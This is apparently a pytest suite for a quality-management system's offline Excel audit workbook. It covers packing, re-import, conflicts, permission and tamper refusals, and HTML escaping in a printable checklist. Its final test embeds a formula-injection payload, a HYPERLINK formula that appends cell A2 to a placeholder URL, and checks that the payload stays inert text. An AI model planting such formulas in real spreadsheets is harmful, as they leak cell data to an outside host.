"""The offline audit workbook (issue 17): pack a draft, bring it back, every refusal, conflicts."""

from __future__ import annotations

import io

import openpyxl
import pytest
from audit_world import ISO2015, answer_all
from offline_world import fill_workbook

from qms.accounts.rules import PermissionDenied, Principal, Role, system_principal
from qms.audits import workbook as wb
from qms.audits.offline_store import confirm_unpack, grade_labels, pack_audit, preview_unpack
from qms.audits.rules import AnswerConflict, AnswerInput, AuditKind, Result
from qms.audits.store import audit_log, get_audit, save_answers, submit_audit
from qms.kernel.errors import QmsError, ValidationError

INSPECTOR = system_principal("inspector")
COLLEAGUE = system_principal("colleague")
VI = grade_labels("vi")


def _book(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _save(book: openpyxl.Workbook) -> bytes:
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _row_of(book, ref: str) -> int:
    ws = book[wb.SHEET]
    for row in range(wb.FIRST_ROW, ws.max_row + 1):
        if ws.cell(row=row, column=wb.COL_REF).value == ref:
            return row
    raise AssertionError(ref)


@pytest.fixture
def draft(start):
    return start(unit="105", template=ISO2015, kind=AuditKind.SELF_ASSESSMENT, day="2021-03-01")


def test_pack_has_items_dropdown_identity_and_protection(world, draft):
    view = get_audit(world, draft)
    first = view.specs[0].ref
    save_answers(world, draft, [AnswerInput(item_ref=first, result=Result.MINOR, note="Thiếu sổ theo dõi")],
                 expected_version=view.row_version, actor=INSPECTOR)
    book = _book(pack_audit(world, draft))
    ws = book[wb.SHEET]
    assert ws.max_row == wb.FIRST_ROW - 1 + len(view.specs)
    row = _row_of(book, first)
    assert ws.cell(row=row, column=wb.COL_RESULT).value == "Không phù hợp nhẹ"
    assert ws.cell(row=row, column=wb.COL_NOTE).value == "Thiếu sổ theo dõi"
    assert ws.cell(row=row, column=4).value  # the question
    # the drop-down of the five Vietnamese grades covers every result cell
    (dv,) = ws.data_validations.dataValidation
    assert dv.type == "list" and all(VI[r] in dv.formula1 for r in Result)
    assert f"F{wb.FIRST_ROW}" in str(dv.sqref) or dv.sqref.ranges
    # protected, only the three answer columns unlocked
    assert ws.protection.sheet
    assert not ws.cell(row=row, column=wb.COL_RESULT).protection.locked
    assert not ws.cell(row=row, column=wb.COL_EVIDENCE).protection.locked
    assert ws.cell(row=row, column=wb.COL_REF).protection.locked and ws.cell(row=row, column=4).protection.locked
    ident = book[wb.IDENTITY]
    assert ident.sheet_state == "hidden"
    values = {r[0].value: r[1].value for r in ident.iter_rows()}
    assert values["audit_id"] == str(draft) and values["template_sha256"] == view.template_hash
    assert len(values["hmac_sha256"]) == 64


def test_round_trip_writes_changes_through_the_page_save(world, draft):
    view = get_audit(world, draft)
    a, b = view.specs[0].ref, view.specs[1].ref
    data = fill_workbook(pack_audit(world, draft), {a: ("Phù hợp", None), b: ("Không phù hợp nặng", "Chưa niêm yết TTHC")})
    preview = preview_unpack(world, draft, data, "phieu.xlsx")
    assert preview.count(wb.Change.CHANGED) == 2
    assert preview.count(wb.Change.UNCHANGED) == len(view.specs) - 2 and not preview.conflicts
    done = confirm_unpack(world, preview, actor=INSPECTOR)
    assert done.written == 2
    after = get_audit(world, draft)
    assert after.answers[a].result is Result.CONFORM
    assert after.answers[b].result is Result.MAJOR and after.answers[b].note == "Chưa niêm yết TTHC"
    assert after.answers[b].answered_by == "inspector"
    assert any(e["action"] == "save_answers" for e in audit_log(world, draft))
    # the same workbook again changes nothing
    again = preview_unpack(world, draft, data, "phieu.xlsx")
    assert again.count(wb.Change.CHANGED) == 0


def test_dry_run_preview_writes_nothing(world, draft):
    data = fill_workbook(pack_audit(world, draft), {get_audit(world, draft).specs[0].ref: ("Phù hợp", None)})
    before = get_audit(world, draft).row_version
    preview_unpack(world, draft, data, "phieu.xlsx")
    assert get_audit(world, draft).row_version == before and not get_audit(world, draft).answers


def test_conflict_is_never_overwritten_silently_and_either_side_can_win(world, draft):
    view = get_audit(world, draft)
    a, b, c = (s.ref for s in view.specs[:3])
    packed = pack_audit(world, draft)
    # meanwhile, online, a colleague answers a (which the inspector also changes) and c (which the inspector leaves)
    save_answers(world, draft, [AnswerInput(item_ref=a, result=Result.MINOR, note="Theo đồng nghiệp"),
                                AnswerInput(item_ref=c, result=Result.CONFORM)],
                 expected_version=view.row_version, actor=COLLEAGUE)
    data = fill_workbook(packed, {a: ("Phù hợp", None), b: ("Phù hợp", None)})
    preview = preview_unpack(world, draft, data, "phieu.xlsx")
    kinds = {p.ref: p.change for p in preview.items}
    assert kinds[a] is wb.Change.CONFLICT and kinds[b] is wb.Change.CHANGED and kinds[c] is wb.Change.UNCHANGED
    # qms's answer kept (no choice for a)
    confirm_unpack(world, preview, actor=INSPECTOR)
    now = get_audit(world, draft)
    assert now.answers[a].result is Result.MINOR and now.answers[b].result is Result.CONFORM
    assert now.answers[c].result is Result.CONFORM
    # the workbook's answer chosen
    preview = preview_unpack(world, draft, data, "phieu.xlsx")
    assert [p.ref for p in preview.conflicts] == [a]
    confirm_unpack(world, preview, [a], actor=INSPECTOR)
    assert get_audit(world, draft).answers[a].result is Result.CONFORM


def test_a_save_between_preview_and_confirm_refuses_the_whole_confirm(world, draft):
    view = get_audit(world, draft)
    a, b = view.specs[0].ref, view.specs[1].ref
    data = fill_workbook(pack_audit(world, draft), {a: ("Phù hợp", None), b: ("Phù hợp", None)})
    preview = preview_unpack(world, draft, data, "phieu.xlsx")
    save_answers(world, draft, [AnswerInput(item_ref=a, result=Result.MAJOR, note="x")], expected_version=view.row_version,
                 actor=COLLEAGUE)
    with pytest.raises(AnswerConflict):
        confirm_unpack(world, preview, actor=INSPECTOR)
    now = get_audit(world, draft)
    assert now.answers[a].result is Result.MAJOR and b not in now.answers


def test_confirm_goes_through_the_page_permissions(world, draft):
    data = fill_workbook(pack_audit(world, draft), {get_audit(world, draft).specs[0].ref: ("Phù hợp", None)})
    preview = preview_unpack(world, draft, data, "phieu.xlsx")
    with pytest.raises(PermissionDenied):
        confirm_unpack(world, preview, actor=Principal(username="viewer", role=Role.VIEWER))
    assert not get_audit(world, draft).answers


def _refusal(world, audit_id, data) -> str:
    with pytest.raises(QmsError) as e:
        preview_unpack(world, audit_id, data, "phieu.xlsx")
    return str(e.value)


def test_refuses_a_workbook_of_another_audit(world, draft, start):
    other = start(unit="105", template=ISO2015, kind=AuditKind.SELF_ASSESSMENT, day="2021-04-01")
    message = _refusal(world, other, pack_audit(world, draft))
    assert f"sheet '{wb.IDENTITY}', row 2" in message and f"audit #{draft}, not of audit #{other}" in message


def test_refuses_a_workbook_of_another_template_version(world, draft, start):
    from qms.audits.store import _TEMPLATES

    data = pack_audit(world, draft)
    view = get_audit(world, draft)
    # the audit pins another snapshot of its checklist than the one the workbook was made from
    other_hash = "0" * 64
    world.write(lambda cur: cur.execute(
        "INSERT INTO checklist_snapshots (hash, template_id, version, standard, content)"
        " SELECT ?, template_id, version + 1, standard, content FROM checklist_snapshots WHERE hash = ?",
        [other_hash, view.template_hash]))
    world.write(lambda cur: cur.execute("UPDATE audits SET template_hash = ? WHERE id = ?", [other_hash, draft]))
    _TEMPLATES.pop(other_hash, None)
    message = _refusal(world, draft, data)
    assert f"sheet '{wb.IDENTITY}', row 3" in message and "another version of the checklist" in message


@pytest.mark.parametrize("edit", ["version", "item", "signature", "drop"])
def test_refuses_a_tampered_identity(world, draft, edit):
    book = _book(pack_audit(world, draft))
    ident = book[wb.IDENTITY]
    last = ident.max_row
    if edit == "version":
        ident.cell(row=4, column=2).value = "999"
    elif edit == "item":
        ident.cell(row=5, column=3).value = "99:" + "0" * 16
    elif edit == "signature":
        ident.cell(row=last, column=2).value = "f" * 64
    else:
        ident.delete_rows(last)
    message = _refusal(world, draft, _save(book))
    assert f"sheet '{wb.IDENTITY}'" in message
    assert ("signature" in message) and ("edited" in message or "row" in message)


def test_refuses_an_answer_outside_the_five_grades(world, draft):
    ref = get_audit(world, draft).specs[2].ref
    packed = pack_audit(world, draft)
    row = _row_of(_book(packed), ref)
    message = _refusal(world, draft, fill_workbook(packed, {ref: ("Tốt", None)}))
    assert f"sheet '{wb.SHEET}', row {row}: result 'Tốt' is not one of the five grades" in message
    assert "Nothing was saved" in message


def test_refuses_a_changed_item_row(world, draft):
    book = _book(pack_audit(world, draft))
    book[wb.SHEET].protection.sheet = False
    book[wb.SHEET].cell(row=3, column=wb.COL_REF).value = "9.9.9"
    message = _refusal(world, draft, _save(book))
    assert f"sheet '{wb.SHEET}', row 3: item '9.9.9' is not one of this audit's items" in message


def test_refuses_a_file_that_is_not_a_qms_workbook(world, draft):
    book = openpyxl.Workbook()
    book.active["A1"] = "x"
    message = _refusal(world, draft, _save(book))
    assert "not a qms audit workbook" in message


def test_english_labels_and_blank_answers_are_read(world, draft):
    ref = get_audit(world, draft).specs[0].ref
    preview = preview_unpack(world, draft, fill_workbook(pack_audit(world, draft), {ref: ("Observation", "Nên bổ sung")}), "p.xlsx")
    (changed,) = [p for p in preview.items if p.change is wb.Change.CHANGED]
    assert changed.workbook.result is Result.OBSERVATION


def test_a_submitted_audit_cannot_be_packed_or_unpacked(world, draft):
    data = pack_audit(world, draft)
    saved = answer_all(world, draft)
    submit_audit(world, draft, expected_version=saved.version, actor=INSPECTOR)
    with pytest.raises(ValidationError):
        pack_audit(world, draft)
    with pytest.raises(ValidationError, match="locked"):
        preview_unpack(world, draft, data, "phieu.xlsx")


def test_printable_checklist_ticks_saved_answers_and_escapes_text():
    from qms.audits.printable import printable_html
    from qms.audits.rules import StoredAnswer

    items = [wb.PackItem("1.1", "1. Phần", "4.3 (2015)", "Có <b>sổ</b> tay?", "Xem & đối chiếu"), wb.PackItem("1.2", "1", "", "Q2", "")]
    page = printable_html(title="Phiếu #1", meta="x", items=items, grades=VI, evidence={"1.1": [("bảng.jpg", "ab" * 32), ("qd.pdf", "cd" * 32)]},
                          answers={"1.1": StoredAnswer(item_ref="1.1", result=Result.MINOR, note="Thiếu", saved_version=1)},
                          headers=["Mục", "Câu hỏi", "Kết quả", "Ghi chú"], signature="Người đánh giá")
    assert "☒ Không phù hợp nhẹ" in page and page.count("☒") == 1 and page.count("☐") == 9
    assert "Có &lt;b&gt;sổ&lt;/b&gt; tay?" in page and "Xem &amp; đối chiếu" in page and "<b>sổ" not in page
    assert "📎 bảng.jpg (abababababab)" in page and "📎 qd.pdf (cdcdcdcdcdcd)" in page and "<script" not in page


def test_answers_and_evidence_commit_together(world, draft):
    """Evidence that cannot be stored (here: a file where the evidence folder should be) takes
    the workbook's answers down with it."""
    from pathlib import Path

    from PIL import Image

    from qms.audits.evidence_store import evidence_root, list_evidence

    ref = get_audit(world, draft).specs[0].ref
    buf = io.BytesIO()
    Image.new("RGB", (10, 10), (9, 9, 9)).save(buf, format="PNG")
    preview = preview_unpack(world, draft, fill_workbook(pack_audit(world, draft), {ref: ("Phù hợp", None)}), "p.xlsx",
                             {ref: [("a.png", buf.getvalue())]})
    root = evidence_root(world)
    Path(root).write_bytes(b"not a folder")
    with pytest.raises(OSError):
        confirm_unpack(world, preview, actor=INSPECTOR)
    assert not get_audit(world, draft).answers and not list_evidence(world, draft)
    root.unlink()
    done = confirm_unpack(world, preview, actor=INSPECTOR)
    assert (done.written, done.evidence_added) == (1, 1)


def test_a_note_that_looks_like_a_formula_stays_text_both_ways(world, draft):
    view = get_audit(world, draft)
    ref = view.specs[0].ref
    note = '=HYPERLINK("http://x/?"&A2,"x")'
    save_answers(world, draft, [AnswerInput(item_ref=ref, result=Result.MINOR, note=note)],
                 expected_version=view.row_version, actor=INSPECTOR)
    data = pack_audit(world, draft)
    cell = _book(data)[wb.SHEET].cell(row=_row_of(_book(data), ref), column=wb.COL_NOTE)
    assert cell.data_type == "s" and cell.value == note
    preview = preview_unpack(world, draft, data, "p.xlsx")
    assert preview.count(wb.Change.CHANGED) == 0 and not preview.conflicts
